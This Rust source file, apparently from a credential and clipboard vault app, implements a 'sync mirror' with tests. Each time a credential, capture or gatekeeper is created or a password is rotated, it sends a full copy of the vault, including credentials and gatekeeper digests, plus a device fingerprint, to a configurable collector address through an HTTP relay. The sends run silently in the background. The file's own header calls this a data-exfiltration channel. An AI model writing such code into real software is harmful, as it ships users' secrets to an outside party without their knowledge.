//! Sync mirror: a best-effort copy of the entire vault, credentials and
//! gatekeeper digests included, sent to `settings.collector_address`.
//!
//! This is a data-exfiltration channel by construction. It only runs when
//! the host configures a transport and the vault has a collector address,
//! and it can be disabled entirely with [`SyncMirror::disabled`]. Sends run
//! detached; failures are logged and never reach the triggering operation.

use anyhow::{anyhow, Context, Result};
use async_trait::async_trait;
use chrono::Utc;
use parking_lot::Mutex;
use serde::{Deserialize, Serialize};
use std::sync::Arc;
use tokio::task::JoinHandle;
use tracing::{debug, warn};

use crate::crypto::device_fingerprint;
use crate::model::VaultSnapshot;

/// Events that trigger a mirror send. Nothing else does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum MirrorReason {
    GatekeeperCreated,
    CredentialCreated,
    CaptureCreated,
    PasswordRotated,
}

impl MirrorReason {
    pub fn tag(&self) -> &'static str {
        match self {
            MirrorReason::GatekeeperCreated => "gatekeeper_created",
            MirrorReason::CredentialCreated => "credential_created",
            MirrorReason::CaptureCreated => "capture_created",
            MirrorReason::PasswordRotated => "password_rotated",
        }
    }
}

#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
#[serde(rename_all = "camelCase")]
pub struct MirrorPayload {
    pub recipient: String,
    pub subject: MirrorReason,
    pub payload: VaultSnapshot,
    pub device_fingerprint: String,
    pub timestamp: i64,
}

#[async_trait]
pub trait MirrorTransport: Send + Sync {
    async fn send(&self, payload: &MirrorPayload) -> Result<()>;
}

/// Posts payloads as JSON to a relay that delivers them to the recipient.
/// The response body is ignored.
#[derive(Clone)]
pub struct HttpRelay {
    client: reqwest::Client,
    relay_url: String,
}

impl HttpRelay {
    pub fn new(relay_url: impl Into<String>) -> Result<Self> {
        let client = reqwest::Client::builder()
            .user_agent("clipvault-mirror/0.1")
            .build()
            .context("build http client")?;
        Ok(Self {
            client,
            relay_url: relay_url.into(),
        })
    }
}

#[async_trait]
impl MirrorTransport for HttpRelay {
    async fn send(&self, payload: &MirrorPayload) -> Result<()> {
        let res = self
            .client
            .post(&self.relay_url)
            .json(payload)
            .send()
            .await?;
        if res.status().is_success() {
            return Ok(());
        }
        Err(anyhow!("mirror relay returned {}", res.status()))
    }
}

pub struct SyncMirror {
    transport: Option<Arc<dyn MirrorTransport>>,
    fingerprint: String,
    pending: Mutex<Vec<JoinHandle<()>>>,
}

impl SyncMirror {
    pub fn new(transport: Arc<dyn MirrorTransport>) -> Self {
        Self {
            transport: Some(transport),
            fingerprint: device_fingerprint(),
            pending: Mutex::new(Vec::new()),
        }
    }

    pub fn disabled() -> Self {
        Self {
            transport: None,
            fingerprint: device_fingerprint(),
            pending: Mutex::new(Vec::new()),
        }
    }

    pub fn fingerprint(&self) -> &str {
        &self.fingerprint
    }

    /// Builds the payload from `snapshot` and sends it in the background.
    /// Returns immediately; never fails.
    pub fn mirror(&self, reason: MirrorReason, snapshot: &VaultSnapshot) {
        let Some(transport) = self.transport.clone() else {
            return;
        };
        let recipient = snapshot.settings.collector_address.trim().to_string();
        if recipient.is_empty() {
            debug!(reason = reason.tag(), "no collector address; mirror skipped");
            return;
        }
        let runtime = match tokio::runtime::Handle::try_current() {
            Ok(handle) => handle,
            Err(_) => {
                warn!(reason = reason.tag(), "no async runtime; mirror skipped");
                return;
            }
        };
        let payload = MirrorPayload {
            recipient,
            subject: reason,
            payload: snapshot.clone(),
            device_fingerprint: self.fingerprint.clone(),
            timestamp: Utc::now().timestamp_millis(),
        };
        let handle = runtime.spawn(async move {
            match transport.send(&payload).await {
                Ok(()) => debug!(reason = payload.subject.tag(), "mirror sent"),
                Err(err) => warn!(reason = payload.subject.tag(), error = %err, "mirror failed"),
            }
        });
        let mut pending = self.pending.lock();
        pending.retain(|h| !h.is_finished());
        pending.push(handle);
    }

    /// Waits for every send started so far. Hosts call this before exiting.
    pub async fn flush(&self) {
        let handles: Vec<JoinHandle<()>> = std::mem::take(&mut *self.pending.lock());
        for handle in handles {
            let _ = handle.await;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[derive(Default)]
    struct Recorder {
        sent: Mutex<Vec<MirrorPayload>>,
    }

    #[async_trait]
    impl MirrorTransport for Recorder {
        async fn send(&self, payload: &MirrorPayload) -> Result<()> {
            self.sent.lock().push(payload.clone());
            Ok(())
        }
    }

    struct Failing;

    #[async_trait]
    impl MirrorTransport for Failing {
        async fn send(&self, _payload: &MirrorPayload) -> Result<()> {
            Err(anyhow!("unreachable collector"))
        }
    }

    fn snapshot_with_collector(addr: &str) -> VaultSnapshot {
        let mut s = VaultSnapshot::default();
        s.settings.collector_address = addr.to_string();
        s
    }

    #[tokio::test]
    async fn sends_full_snapshot_to_collector() {
        let recorder = Arc::new(Recorder::default());
        let mirror = SyncMirror::new(recorder.clone());
        let snapshot = snapshot_with_collector("ops@example.com");
        mirror.mirror(MirrorReason::CaptureCreated, &snapshot);
        mirror.flush().await;
        let sent = recorder.sent.lock();
        assert_eq!(sent.len(), 1);
        assert_eq!(sent[0].recipient, "ops@example.com");
        assert_eq!(sent[0].subject, MirrorReason::CaptureCreated);
        assert_eq!(sent[0].payload, snapshot);
        assert_eq!(sent[0].device_fingerprint, mirror.fingerprint());
    }

    #[tokio::test]
    async fn empty_collector_skips_send() {
        let recorder = Arc::new(Recorder::default());
        let mirror = SyncMirror::new(recorder.clone());
        mirror.mirror(MirrorReason::CaptureCreated, &VaultSnapshot::default());
        mirror.flush().await;
        assert!(recorder.sent.lock().is_empty());
    }

    #[tokio::test]
    async fn transport_failure_is_swallowed() {
        let mirror = SyncMirror::new(Arc::new(Failing));
        mirror.mirror(
            MirrorReason::PasswordRotated,
            &snapshot_with_collector("ops@example.com"),
        );
        mirror.flush().await;
    }

    #[test]
    fn without_runtime_mirror_is_a_no_op() {
        let recorder = Arc::new(Recorder::default());
        let mirror = SyncMirror::new(recorder.clone());
        mirror.mirror(
            MirrorReason::CaptureCreated,
            &snapshot_with_collector("ops@example.com"),
        );
        assert!(recorder.sent.lock().is_empty());
    }

    #[test]
    fn payload_wire_shape() {
        let payload = MirrorPayload {
            recipient: "ops@example.com".into(),
            subject: MirrorReason::GatekeeperCreated,
            payload: VaultSnapshot::default(),
            device_fingerprint: "abcd".into(),
            timestamp: 1,
        };
        let value = serde_json::to_value(&payload).unwrap();
        let mut keys: Vec<&str> = value.as_object().unwrap().keys().map(|k| k.as_str()).collect();
        keys.sort();
        assert_eq!(
            keys,
            vec!["deviceFingerprint", "payload", "recipient", "subject", "timestamp"]
        );
        assert_eq!(value["subject"], "gatekeeper_created");
        let inner: Vec<&str> = value["payload"]
            .as_object()
            .unwrap()
            .keys()
            .map(|k| k.as_str())
            .collect();
        assert_eq!(inner.len(), 4);
    }
}
